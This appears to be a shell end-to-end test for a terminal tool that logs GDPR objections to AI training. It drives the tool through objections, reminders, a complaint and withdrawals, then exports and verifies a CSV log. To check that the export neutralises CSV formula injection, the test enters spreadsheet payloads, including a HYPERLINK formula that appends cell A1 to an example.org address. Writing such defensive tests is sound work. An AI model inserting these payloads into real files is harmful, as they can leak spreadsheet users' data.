# The whole story over a real ssh, by keys alone, in German and in English: from the first start over three accounts, their data
# exports, an objection for all of them, a confirmation, an answer that does not come, a change of mind, to a log that is exported,
# verifies, is imported elsewhere, and is read by a spreadsheet. What the screen showed on the way is kept, and copied into the
# folder STORY_SCREENS where that is set.
. "$SOURCES/tests/term/lib.sh" || exit 99
. "$SOURCES/tests/term/server.sh" || exit 99

python3 "$SOURCES/tests/export-gen" story "$home" || exit 99
printf 'From: Datenschutz <support@example.org>\r\nSubject: =?UTF-8?Q?Best=C3=A4tigung?=\r\n\r\nWir berücksichtigen den Widerspruch künftig.\r\n' >'Bestätigung.eml'
mkdir screens

# The sanitizer and faketime both want to be the first library to be loaded.
first='2026-10-23 09:30:00' later='2026-11-27 10:15:00'
no_clock=
if ! command -v faketime >/dev/null; then
	no_clock='package faketime is not installed'
elif ! faketime "$first" "$VETO" --version >/dev/null 2>clock.said; then
	no_clock="build faketime does not go with this build: $(head -n 1 clock.said)"
fi

# ---- what the screen says, in both languages

due_by="The provider's answer is due by %s." was_due="The provider's answer was due by %s."
several='%s: recorded for %zu account|%s: recorded for %zu accounts' one="$several|1"
is_new='%s: %lld item is new|%s: %lld items are new' is_now='%lld item is now: %s|%lld items are now: %s' late='overdue by %lld day|overdue by %lld days'
texts=('A log of what you decide about AI training.' 'Nothing leaves this machine.' 'a adds an account, ? helps, q leaves.'
	'Add an account' '%s/%s is added' 'Read a data export' sure restricted ' · %zu marked' Objection 'Work list' 'what is affected' 'address and text'
	'submitted?' 'Objection sent' 'Objection confirmed' confirmed Note e-mail objected withdrawn 'Reminder sent' 'Objection withdrawn'
	'Complaint to the supervisory authority' 'undone: %s' 'done again: %s' '%zu overdue' Log 'all accounts'
	"$due_by" "$was_due" "$one" "$several" "$is_new" "$is_now" "$late")

# learn LANGUAGE: $said[TEXT] is what stands for it, as a regular expression.
declare -A said
learn()
{
	local i lines

	mapfile -t lines < <(words "$1" "${texts[@]}" | sed 's/[][().*+?{}|^$\\]/\\&/g')
	for i in "${!texts[@]}"; do
		said[${texts[i]}]=${lines[i]}
	done
}

# sees NAME PATTERN: the screen comes to show it, and is kept under the name.
sees()
{
	local file

	shows "$language: $1" "$2"
	screens=$((screens + 1))
	file=$(printf '%s-%02d-%s.txt' "$language" "$screens" "${1//[^[:alnum:]]/-}")
	printf '%s\n' "$seen" >"screens/$file"
	[ -z "${STORY_SCREENS:-}" ] || cp "screens/$file" "$STORY_SCREENS/"
}

# due_after DAY: a month later, and where that is no working day, on Monday, as it is written on the screen.
due_after()
{
	python3 - "$1" "$language" <<'PY'
import calendar, datetime, sys
d = datetime.date.fromisoformat(sys.argv[1])
y, m = d.year + d.month // 12, d.month % 12 + 1
due = datetime.date(y, m, min(d.day, calendar.monthrange(y, m)[1]))
while due.weekday() > 4:
    due += datetime.timedelta(1)
print(due.strftime("%d.%m.%Y") if sys.argv[2] == "de" else "%d %s" % (due.day, due.strftime("%b %Y")))
PY
}

# open_at TIME: veto at that time, where there is a clock to set, and else now; what is done then is due on ${due["$language $today"]}.
declare -A due
open_at()
{
	rm -f clock
	[ -n "$no_clock" ] || echo "$1" >clock
	today=${1% *}
	[ -z "$no_clock" ] || printf -v today '%(%F)T'
	due["$language $today"]=$(due_after "$today")
	far 80x24 --lang "$language"
}

closes()
{
	press q
	ended "$language: $1" 0
	terminal_is_left "$language: $1"
	is "$language: $1: the exit status at the other end" "$(<remote.status)" 0
	is "$language: $1: the terminal at the other end" "$(<remote.after)" "$(<remote.before)"
}

# recorded ENTRY COUNT: how the screen says it.
recorded()
{
	local text=$several

	[ "$2" != 1 ] || text=$one
	echo "${said[$1]}: ${said[$text]/2/$2}"
}

# dated TEXT DAY: a text with the due date of what was done on the day; its gap is where a word is missing.
dated()
{
	local text=${said[$1]} day=${due["$language $2"]}

	text=${text/'  '/ $day }
	echo "${text/' \.'/ $day.}"
}

# ---- the story

# account_added SERVICE-NUMBER SERVICE HANDLE: by the form, in the centre.
account_added()
{
	local i

	press a
	shows "$language: $2: the form" "┌ ${said[Add an account]}"
	for ((i = 1; i < $1; i++)); do
		press Space
	done
	press Tab
	type "$3"
	press Tab
	type 'Anna Müller'
	press Tab
	type anna@example.org
	press Tab Space Tab
	type 'Bei Müllers'
	[ "$1" != 1 ] || sees 'the form of an account' 'Bei Müllers'
	press Enter
	shows "$language: $2: it is added" "$2/$3 ${said[%s/%s is added]}"
}

first_start()
{
	open_at "$first"
	sees 'first start' "${said[A log of what you decide about AI training.]}"
	shows "$language: first start, the second line" "${said[Nothing leaves this machine.]}"
	shows "$language: first start, the third line" "${said[a adds an account, ? helps, q leaves.]}"
	account_added 1 facebook anna.schmidt.79
	account_added 2 instagram anna.schmidt
	account_added 3 threads anna.schmidt
	sees 'three accounts' '│▌threads/anna\.schmidt'
}

# export_read SERVICE HANDLE POSTS ITEMS: of the account under the cursor.
export_read()
{
	shows "$language: $1: under the cursor" "▌$1/$2"
	press D
	shows "$language: $1: the form" "┌ ${said[Read a data export]}"
	type "~/$1.z"
	press Tab
	shows "$language: $1: the name is completed" "$home/$1\.zip"
	press Enter
	sees "export of $1" "$1/$2: $4 ${said[$is_new]}"
	unlike "$language: $1: no word of the translations' own head" "$(screen)" 'Project-Id|msgid'
	press Escape
	sees "counted of $1" "\[ \] $posts +$3 "
}

exports_read()
{
	press 1 g
	export_read facebook anna.schmidt.79 59 145
	press j
	export_read instagram anna.schmidt 100 263
	shows "$language: the chart of the posts" '2015 [▁▂▃▄▅▆▇█]{11} 2025'
	press j
	export_read threads anna.schmidt 19 26
}

year_ticked()
{
	press k
	shows "$language: Instagram again" '▌instagram/anna\.schmidt'
	press 2
	press Enter
	sees 'the posts' "┌ $posts · instagram/anna\.schmidt"
	press Left Left
	shows "$language: the year 2024" '\[2024\] 10 '
	press '*' r
	sees 'a year is restricted' "10 ${said[$is_now]} ${said[restricted]}"
	is "$language: ten posts have the sign" "$(screen | grep -c '^│.\*\[~\] ')" 10
	press Escape Escape Escape
	sees 'and is counted' "100 ${said[sure]}, \[~\] 10"
}

# objected_at SERVICE HANDLE: one part of the guided objection, from its first page to the next one's.
objected_at()
{
	address=$("$VETO" routes "$1" --url | head -n 1)
	shows "$language: $1: its turn" "┌ ${said[Objection]} · $1/$2 · 1/6 ${said[what is affected]}"
	[ "$1" != facebook ] || sees 'what is affected' '1/6'
	press Enter
	shows "$language: $1: the route" ' 2/6 '
	[ "$1" != facebook ] || sees 'the route' '2/6'
	press Enter
	shows "$language: $1: before the form" ' 3/6 '
	press Enter
	sees "address and text for $1" " 4/6 ${said[address and text]}"
	shows "$language: $1: the address alone on its line" "^│ $address +│$"
	if command -v zbarimg >/dev/null; then
		code "$language: $1: the code is the form's address" dark
	else
		skip "$language: $1: the code" package 'zbar-tools is missing'
	fi
	press Enter
	shows "$language: $1: whether it was sent" " 5/6 ${said[submitted?]}"
	press Enter
	sees "recorded for $1" "$(recorded 'Objection sent' 1)"
	shows "$language: $1: until when an answer is due" "$(dated "$due_by" "$today")"
	press Enter
}

# sent_for ACCOUNT N: from the work list, where it is the Nth of two
sent_for()
{
	sees "the work list, $1" "┌ ${said[Work list]} · ${said[Objection]} · $2 (of|von) 2 "
	shows "$language: $1 is in front" "^│ $1 "
	press y
	shows "$language: its address is copied" 'OSC|Terminal|terminal'
	read -rt 1.1 -u "$never"
	press s
}

all_objected()
{
	press 1 g o
	objected_at facebook anna.schmidt.79
	sees 'one has objected' "$(recorded 'Objection sent' 1)"
	press j Space Space
	shows "$language: two are marked" "${said[ · %zu marked]}"
	press o
	sent_for instagram/anna.schmidt 1
	sent_for threads/anna.schmidt 2
	sees 'all three have objected' 'threads/anna\.schmidt; (the list is done|die Liste ist erledigt)'
	is "$language: and each of them says so" "$(screen | grep -c "^│.  ${said[objected]}, ")" 3
	press Escape
	hides "$language: the marks are off" '✓'
}

confirmed()
{
	press g c
	shows "$language: the form of a confirmation" "┌ ${said[Objection confirmed]}"
	press Tab
	until_true choose_mail
	press Tab Tab
	type '=HYPERLINK("https://example.org/?"&A1;"gelöscht")'
	press Tab
	type '~/Best'
	press Tab
	sees 'a confirmation with its mail' 'Bestätigung\.eml'
	press Enter
	sees 'confirmed' "$(recorded 'Objection confirmed' 1)"
	shows "$language: the account says so" "^│▌  ${said[confirmed]} "
	shows "$language: the log has the file" "${said[Objection confirmed]}  ${said[e-mail]}  1 "
}

choose_mail()
{
	_screen_has "< ${said[e-mail]} >" || { press Space; return 1; }
}

noted()
{
	press N
	shows "$language: the form of a note" "┌ ${said[Note]} "
	paste $'@support am Telefon:\n=1+1 sei „größer“; es eilt'
	shows "$language: it stands in its field" '=1\+1 sei „größer“'
	press Enter
	shows "$language: a note of two lines" "$(recorded Note 1)"
	press N
	shows "$language: the form of a note, again" "┌ ${said[Note]} "
	type '+49 221 100: niemand da, "später"'
	press Enter
	sees 'notes' '\+49 221 100'
}

# A month and some days later, at another start.
not_answered()
{
	open_at "$later"
	shows "$language: the second start" '│▌facebook/anna\.schmidt\.79'
	if [ -n "$no_clock" ]; then
		skip "$language: the due date is over" "${no_clock%% *}" "${no_clock#* }"
	else
		sees 'overdue' "${said[%zu overdue]/2/2 }"
		is "$language: two are overdue, and the word is not cut" "$(screen | grep -c "^│.  ${said[$late]/  / 4 }")" 2
		press d
		sees 'answers due' "${said[$late]/  / 4 } +instagram/anna\.schmidt"
		press Escape
	fi
}

reminded()
{
	press j R
	shows "$language: a reminder: where things stand" 'instagram/anna\.schmidt · 1/4'
	press Enter
	sees 'the reminder' ' 2/4 '
	press Enter
	shows "$language: a reminder: whether it was sent" ' 3/4 '
	press Down Enter
	sees 'reminded' "$(recorded 'Reminder sent' 1)"
	[ -n "$no_clock" ] || shows "$language: the answer was due" "$(dated "$was_due" "${first% *}")"
	press Enter C
	shows "$language: a complaint: where things stand" 'instagram/anna\.schmidt · 1/5'
	press Enter
	shows "$language: a complaint: to whom" ' 2/5 '
	type de-by
	sees 'the authority' 'BayLDA'
	press Enter
	sees 'the complaint' ' 3/5 '
	press Enter
	shows "$language: a complaint: whether it was sent" ' 4/5 '
	press Enter
	shows "$language: a complaint is recorded" "$(recorded 'Complaint to the supervisory authority' 1)"
	press Enter
	sees 'complained' "│ [0-9].* ${said[Complaint to the supervisory authority]}"
	[ -n "$no_clock" ] || shows "$language: the account says so" '^│▌  (objected, complaint|gesendet, Beschwerde) '
}

changed_mind()
{
	press j w
	shows "$language: a withdrawal: where things stand" 'threads/anna\.schmidt · 1/5'
	press Enter Enter Enter Enter
	shows "$language: it is recorded" "$(recorded 'Objection withdrawn' 1)"
	press Enter
	sees 'withdrawn' "^│▌  ${said[withdrawn]} "
	press o
	shows "$language: another objection" 'threads/anna\.schmidt · 1/6'
	press Enter Enter Enter Enter Enter
	shows "$language: it is recorded too" "$(recorded 'Objection sent' 1)"
	shows "$language: with a due date of its own" "${due["$language $today"]}"
	press Enter
	sees 'objected again' "^│▌  ${said[objected]}, "
}

searched()
{
	press L 3 /
	type 'GRÖ'
	sees 'the log is searched' "┌ ${said[Log]} /GRÖ · ${said[all accounts]}"
	shows "$language: found" '│▌.*@support'
	hides "$language: and nothing else" "${said[Objection sent]}"
	press Enter Escape
	shows "$language: all of it again" "${said[Objection sent]}"
}

undone()
{
	press u
	sees 'undone' "${said[undone: %s]} *threads/anna\.schmidt: ${said[Objection sent]}"
	shows "$language: undone: it is withdrawn again" "^│▌?  ?.*${said[withdrawn]} "
	press C-r
	sees 'done again' "${said[done again: %s]} *threads/anna\.schmidt: ${said[Objection sent]}"
	shows "$language: done again: it is objected" "^│.  ${said[objected]}, "
}

exported()
{
	press E
	shows "$language: the form of the export" 'CSV'
	type "~/log-$language.csv"
	press Enter
	sees 'exported' "(entries written to|Einträge nach) .*log-$language\.csv"
}

# ---- and what it left

proven()
{
	local hash=$(sha256sum 'Bestätigung.eml' | cut -d ' ' -f 1)

	veto verify "log-$language.csv"
	done_well "$language: the exported file proves itself"
	is "$language: all three chains are in it" "$(grep -c ': intact, ' <<<"$out")" 3
	veto verify
	done_well "$language: the database holds"
	"$VETO" log --format csv >line.csv
	check "$language: the file is the command line's, byte for byte" cmp "log-$language.csv" line.csv
	veto --db "other-$language.db" import "log-$language.csv"
	done_well "$language: another database takes it"
	"$VETO" --db "other-$language.db" log --format csv >line.csv
	check "$language: and gives it back, byte for byte" cmp "log-$language.csv" line.csv
	veto --db "other-$language.db" verify
	is "$language: its chains hold" "$status$(grep -c intact <<<"$out")" 03
	"$VETO" evidence get "$hash" >mail.out 2>&1
	check "$language: the mail comes out as it went in" cmp mail.out 'Bestätigung.eml'
	is "$language: what was exported, in order" "$(python3 -c 'import csv, sys; print(*[(r["service"][0] + r["seq"] + ":" + r["entry"]) for r in csv.DictReader(open(sys.argv[1], newline=""))])' "log-$language.csv")" \
		'f1:objected f2:confirmed f3:noted f4:noted i1:objected i2:reminded i3:complained t1:objected t2:withdrawn t3:objected t4:struck t5:struck'
}

languages='de en'
[ -n "${ALL:-}" ] || languages=de
for language in $languages; do
	learn "$language"
	screens=0
	posts=$([ "$language" = de ] && echo 'Öffentliche Beiträge' || echo 'Public posts')
	rm -rf "$XDG_DATA_HOME"
	first_start
	exports_read
	year_ticked
	all_objected
	confirmed
	noted
	closes 'the first day'
	not_answered
	reminded
	changed_mind
	searched
	undone
	exported
	closes 'the second'
	proven
done
server_ends

# ---- a spreadsheet, which is told what its window for text files asks: comma, quotes, UTF-8

if ! command -v soffice >/dev/null; then
	skip 'LibreOffice opens what was exported' package 'libreoffice-calc-nogui is missing'
elif ! soffice "-env:UserInstallation=file://$home/office" --headless --infilter=CSV:44,34,76 --convert-to ods --outdir sheets log-*.csv >office.said 2>&1; then
	skip 'LibreOffice opens what was exported' package "it does not run here: $(tail -n 1 office.said)"
else
	for language in $languages; do
		is "$language: LibreOffice shows each field as it is, in its cell, and runs none" \
			"$(python3 "$SOURCES/tests/term/sheet.py" "log-$language.csv" "sheets/log-$language.ods")" \
			'13 rows, 18 columns, 0 formulas, 3 guarded, 1 of two lines: as exported'
	done
fi
finish
